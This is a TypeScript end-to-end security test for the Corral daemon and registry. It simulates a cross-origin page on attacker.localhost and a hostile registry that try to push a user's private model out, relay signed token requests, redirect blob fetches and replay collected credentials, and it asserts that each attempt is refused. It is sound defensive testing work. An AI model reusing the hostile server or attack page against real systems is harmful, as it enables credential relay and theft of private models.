// The whole attack on a team registry, end to end, with real processes: a web page on another
// origin asks the user's daemon to pull from a hostile registry H and to push the user's private
// model to it; H relays the signed token requests the daemon makes for it to the team registry T,
// sends the daemon to T through redirects and upload Locations, and tries everything it collected
// against T. The attacker ends with nothing: the page is refused, every relay is refused, the
// daemon gives T's credentials to nobody, and the user's private model on T is as it was.
//
// What each stage relies on: the daemon's origin check (apps/daemon/src/api/origin-check.ts), the
// registry's own URLs for signatures (apps/registry/src/http/public-urls.ts) and the registry
// client that signs and sends tokens only for the registry a model names
// (apps/daemon/src/registry-client/session.ts). SECURITY.md describes each.

import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { createServer, request as httpRequest, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { MediaType } from "@corral/shared/manifest";
import { startDaemon, runCLI, uploadFile, type Daemon } from "./helpers/daemon.ts";
import { startRegistry, registryCLI, type RegistryProcess } from "./helpers/registry.ts";
import { ensureChromium, launchBrowser, type Browser } from "./helpers/browser.ts";
import { fixtures } from "./fixtures.ts";

const skip = ensureChromium();
const MANIFEST_ACCEPT = `${MediaType.manifestV2}, ${MediaType.ociManifest}`;
/** The only token H hands out; the daemon sends it back to H, which is harmless. */
const H_TOKEN = "h-token";

interface Reply {
  status: number;
  headers: IncomingMessage["headers"];
  body: string;
}

/** One request to the team registry over its socket, with the Host and headers the caller chooses. */
function send(r: RegistryProcess, method: string, path: string, headers: Record<string, string>): Promise<Reply> {
  const [hostname, port] = r.host.split(":");
  return new Promise((resolve, reject) => {
    const req = httpRequest({ hostname, port: Number(port), method, path, headers }, (res) => {
      let body = "";
      res.setEncoding("utf8");
      res.on("data", (d: string) => (body += d));
      res.on("end", () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
      res.on("error", reject);
    });
    req.on("error", reject);
    req.end();
  });
}

/** The attacker's registry: what it heard, what its relays to T got, what it could collect. */
interface Hostile {
  host: string;
  /** Every request the daemon (or anyone) sent to H. */
  heard: Array<{ method: string; path: string; authorization: string | undefined }>;
  /** The answers T gave to the signed requests H relayed. */
  relays: Reply[];
  stop(): Promise<void>;
}

async function startHostile(team: RegistryProcess, secretLayer: { digest: string; size: number }): Promise<Hostile> {
  const h: Hostile = { host: "", heard: [], relays: [], stop: async () => {} };
  const server: Server = createServer((req, res) => {
    const path = req.url ?? "/";
    h.heard.push({ method: req.method ?? "GET", path, authorization: req.headers.authorization });
    req.resume();
    if (path.startsWith("/v2/token") || path.startsWith("/-/login/links")) {
      // Relay the signed request to T as it came, Host and all, and hand the daemon a token of H's own.
      const headers: Record<string, string> = { Host: req.headers.host ?? h.host };
      if (req.headers.authorization) headers["Authorization"] = req.headers.authorization;
      send(team, req.method ?? "GET", path, headers).then(
        (reply) => {
          h.relays.push(reply);
          res.writeHead(200, { "Content-Type": "application/json" }).end(JSON.stringify({ token: H_TOKEN }));
        },
        (e: Error) => res.writeHead(502).end(e.message),
      );
      return;
    }
    if (req.headers.authorization !== `Bearer ${H_TOKEN}`) {
      res
        .writeHead(401, { "WWW-Authenticate": `Bearer realm="http://${h.host}/v2/token",service="${h.host}",scope="repository:alice/secret:pull,push"`, "Content-Type": "application/json" })
        .end('{"errors":[{"code":"UNAUTHORIZED","message":"authentication required"}]}');
      return;
    }
    const teamRepo = `${team.url}/v2/alice/secret`;
    if (req.method === "GET" && /\/manifests\//.test(path)) {
      // The user's private layer, to be fetched from T through H's redirect.
      const manifest = { schemaVersion: 2, mediaType: MediaType.manifestV2, config: { mediaType: MediaType.config, digest: secretLayer.digest, size: secretLayer.size }, layers: [{ mediaType: MediaType.model, ...secretLayer }] };
      res.writeHead(200, { "Content-Type": MediaType.manifestV2 }).end(JSON.stringify(manifest));
    } else if (/\/blobs\/sha256:/.test(path) && (req.method === "GET" || req.method === "HEAD")) {
      res.writeHead(307, { Location: `${teamRepo}/blobs/${secretLayer.digest}` }).end();
    } else if (req.method === "POST" && /\/blobs\/uploads\/?/.test(path)) {
      res.writeHead(202, { Location: `${teamRepo}/blobs/uploads/planted`, "Docker-Upload-UUID": "planted", Range: "0-0" }).end();
    } else {
      res.writeHead(404, { "Content-Type": "application/json" }).end('{"errors":[{"code":"NAME_UNKNOWN","message":"unknown"}]}');
    }
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  h.host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  h.stop = () => new Promise((resolve) => server.close(() => resolve()));
  return h;
}

let team: RegistryProcess;
let daemon: Daemon;
let hostile: Hostile;
let browser: Browser;
let page: Page;
let pages: Server;
let pagesPort: number;
/** alice/secret on T as it was pushed: its manifest digest, tags and the namespace's repositories. */
let secretBefore: { digest: string; tags: string; catalog: string };

/** An admin-minted token for alice, to read her private model on T the way she would. */
async function aliceToken(scope: string): Promise<string> {
  const r = await registryCLI(team, ["token", "alice", "--scope", scope]);
  assert.equal(r.code, 0, r.stderr);
  return r.stdout.trim();
}

async function secretOnTeam(): Promise<typeof secretBefore> {
  const token = await aliceToken("repository:alice/secret:pull");
  const auth = { Host: team.host, Authorization: `Bearer ${token}` };
  const manifest = await send(team, "GET", "/v2/alice/secret/manifests/latest", { ...auth, Accept: MANIFEST_ACCEPT });
  assert.equal(manifest.status, 200, manifest.body);
  const tags = await send(team, "GET", "/v2/alice/secret/tags/list", auth);
  // The repositories alice can see: no new one appeared in her namespace.
  const catalog = await send(team, "GET", "/v2/_catalog", auth);
  return { digest: String(manifest.headers["docker-content-digest"]), tags: tags.body, catalog: catalog.body };
}

async function modelNames(): Promise<string[]> {
  const r = await fetch(`${daemon.url}/api/tags`);
  return ((await r.json()) as { models: Array<{ name: string }> }).models.map((m) => m.name).sort();
}

/** The attacker's page: asks the daemon, without its consent, to pull from H and push alice's model to H. */
function attackPage(): string {
  const posts: Array<[string, unknown]> = [
    ["/api/pull", { model: `${hostile.host}/alice/secret`, insecure: true, stream: false }],
    ["/api/copy", { source: "bait", destination: `${hostile.host}/alice/loot` }],
    ["/api/push", { model: `${hostile.host}/alice/loot`, insecure: true, stream: false }],
    ["/api/pull", { model: `${team.host}/alice/secret`, insecure: true, stream: false }],
  ];
  return `<!doctype html><meta charset="utf-8"><title>free models</title>
<script>
  async function attack() {
    const out = [];
    for (const [path, body] of ${JSON.stringify(posts)}) {
      try {
        const r = await fetch(${JSON.stringify(daemon.url)} + path, { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: JSON.stringify(body) });
        out.push(path + " " + r.type);
      } catch (e) {
        out.push(path + " failed: " + e);
      }
    }
    return out;
  }
</script>`;
}

before(async () => {
  if (skip) return;
  team = await startRegistry();
  daemon = await startDaemon({ env: { CORRAL_ORIGINS: "", OLLAMA_ORIGINS: "" } });
  const key = (await readFile(join(daemon.home, ".corral", "id_ed25519.pub"), "utf8")).trim();
  const added = await registryCLI(team, ["user", "add", "alice", "--key", key]);
  assert.equal(added.code, 0, added.stderr);

  // alice's private model on the team registry, pushed by her daemon (new repositories are private).
  const digest = await uploadFile(daemon, fixtures.stories260K);
  const created = await fetch(`${daemon.url}/api/create`, { method: "POST", body: JSON.stringify({ model: "story", files: { "stories260K.gguf": digest }, template: "{{ .Prompt }}", stream: false }) });
  assert.equal(created.status, 200, await created.text());
  assert.equal((await runCLI(daemon, ["cp", "story", `${team.host}/alice/secret`])).code, 0);
  const pushed = await runCLI(daemon, ["push", `${team.host}/alice/secret`, "--insecure"]);
  assert.equal(pushed.code, 0, pushed.stderr);
  secretBefore = await secretOnTeam();
  // alice keeps it on the team registry only, so a pull would have to fetch its layer from there.
  for (const name of ["story", `${team.host}/alice/secret`]) assert.equal((await runCLI(daemon, ["rm", name])).code, 0);
  const blobs = await fetch(`${daemon.url}/api/blobs/${digest}`, { method: "HEAD" });
  assert.equal(blobs.status, 404, "the secret layer is not in the daemon's store");
  // Something of her own she may push anywhere.
  const baitDigest = await uploadFile(daemon, fixtures.tinyRandomLlama2);
  const bait = await fetch(`${daemon.url}/api/create`, { method: "POST", body: JSON.stringify({ model: "bait", files: { "llama-2-tiny-random.gguf": baitDigest }, stream: false }) });
  assert.equal(bait.status, 200, await bait.text());
  const anonymous = await send(team, "GET", "/v2/alice/secret/manifests/latest", { Host: team.host, Accept: MANIFEST_ACCEPT });
  assert.equal(anonymous.status, 401, "alice/secret is private");

  const size = (await readFile(fixtures.stories260K)).length;
  hostile = await startHostile(team, { digest, size });
  pages = createServer((_req, res) => res.writeHead(200, { "Content-Type": "text/html; charset=utf-8" }).end(attackPage()));
  await new Promise<void>((resolve) => pages.listen(0, "127.0.0.1", resolve));
  pagesPort = (pages.address() as AddressInfo).port;
  browser = await launchBrowser();
  page = browser.page;
});

after(async () => {
  await browser?.close();
  if (pages) await new Promise<void>((r) => pages.close(() => r()));
  await hostile?.stop();
  await daemon?.stop();
  await team?.stop();
});

test("stage 1: a page on another origin asks the daemon to pull from and push to the hostile registry; nothing leaves the machine", { skip }, async () => {
  const models = await modelNames();
  const answers: string[] = [];
  page.on("response", (r) => {
    if (r.url().startsWith(daemon.url)) answers.push(`${r.request().method()} ${new URL(r.url()).pathname} ${r.status()}`);
  });
  await page.goto(`http://attacker.localhost:${pagesPort}/`);
  const results = await page.evaluate<string[]>("attack()");
  assert.equal(results.length, 4, results.join("\n"));
  // Wait until the browser has seen the daemon's answer to each of the four requests.
  while (answers.length < 4) await new Promise((r) => setTimeout(r, 20));
  assert.deepEqual(answers, ["POST /api/pull 403", "POST /api/copy 403", "POST /api/push 403", "POST /api/pull 403"]);
  assert.deepEqual(hostile.heard, [], "the hostile registry heard nothing");
  assert.deepEqual(await modelNames(), models, "the daemon's models are unchanged");
});

test("stage 2: the user pulls from the hostile registry; its relays, redirects and planted uploads get the attacker nothing", { skip }, async () => {
  const pull = await runCLI(daemon, ["pull", `${hostile.host}/alice/secret`, "--insecure"]);
  assert.notEqual(pull.code, 0, "the pull cannot succeed");
  // The daemon signed a token request for H (H's realm is on H) and H relayed it to T: refused.
  assert.ok(hostile.relays.length >= 1, `H relayed the daemon's signed token request: ${pull.stderr}`);
  for (const relay of hostile.relays) assert.equal(relay.status, 401, `T refused the relay: ${relay.body}`);
  // H then sent the daemon to T for alice's layer; T asked for credentials and the daemon gave none.
  assert.match(pull.stderr, new RegExp(`Corral signs token requests only for ${hostile.host.replaceAll(".", "\\.")}`));

  // The same for a push to H whose upload Location points into alice's repository on T.
  assert.equal((await runCLI(daemon, ["cp", "bait", `${hostile.host}/alice/bait`])).code, 0);
  const push = await runCLI(daemon, ["push", `${hostile.host}/alice/bait`, "--insecure"]);
  assert.notEqual(push.code, 0, "the planted upload cannot be used");
  for (const relay of hostile.relays) assert.equal(relay.status, 401, `T refused the relay: ${relay.body}`);

  // Everything H collected, tried against T directly: signed requests under T's own Host (they
  // were signed for H's URL), and any bearer token other than H's own.
  const collected = hostile.heard.map((x) => x.authorization).filter((a): a is string => a !== undefined && a !== `Bearer ${H_TOKEN}`);
  assert.ok(collected.length >= 1, "H collected the daemon's signed requests");
  for (const authorization of collected) {
    const heard = hostile.heard.find((x) => x.authorization === authorization)!;
    if (authorization.startsWith("Bearer ")) {
      const reply = await send(team, "GET", "/v2/alice/secret/manifests/latest", { Host: team.host, Authorization: authorization, Accept: MANIFEST_ACCEPT });
      assert.equal(reply.status, 401, `a token H collected opens nothing on T: ${reply.body}`);
    } else {
      const reply = await send(team, heard.method, heard.path, { Host: team.host, Authorization: authorization });
      assert.equal(reply.status, 401, `a signed request H collected is refused under T's own name: ${reply.body}`);
    }
  }
});

test("stage 3: alice's private model on the team registry is as it was, and still private", { skip }, async () => {
  assert.deepEqual(await secretOnTeam(), secretBefore);
  const anonymous = await send(team, "GET", "/v2/alice/secret/manifests/latest", { Host: team.host, Accept: MANIFEST_ACCEPT });
  assert.equal(anonymous.status, 401);
  const upload = await send(team, "GET", "/v2/alice/secret/blobs/uploads/planted", { Host: team.host, Authorization: `Bearer ${await aliceToken("repository:alice/secret:pull,push")}` });
  assert.equal(upload.status, 404, "no upload was opened in alice's repository");
});
